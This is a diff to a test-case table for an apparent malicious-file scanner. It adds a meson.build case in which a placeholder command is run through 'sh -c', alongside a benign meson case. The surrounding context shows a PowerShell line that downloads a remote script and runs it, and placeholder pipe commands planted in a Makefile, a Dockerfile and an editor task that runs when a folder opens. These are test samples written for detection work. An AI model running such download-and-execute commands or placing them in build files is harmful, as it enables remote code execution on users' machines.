@@ -249,6 +249,8 @@ CASES = {
         lambda: "iwr http://192.0.2.1/a.ps1 | iex\r\n".encode("utf-16"), "x.ps1", Verdict.REVIEW, cut_is_clean=True
     ),
     "makefile": text(f"all:\n\t{PIPE}\n", "Makefile", Verdict.REVIEW),
+    "meson": text(f"project('a', 'c')\nrun_command('sh', '-c', '{PIPE}')\n", "meson.build", Verdict.REVIEW),
+    "benign_meson": text("run_command('git', 'describe', check: false)\n", "meson.build", Verdict.CLEAN),
     "dockerfile": text(f"FROM x\nRUN {PIPE}\n", "Dockerfile", Verdict.REVIEW),
     "task_on_opening": document(tasks(PIPE), "tasks.json", Verdict.MALICIOUS),
     "task_on_opening_commented": Case(
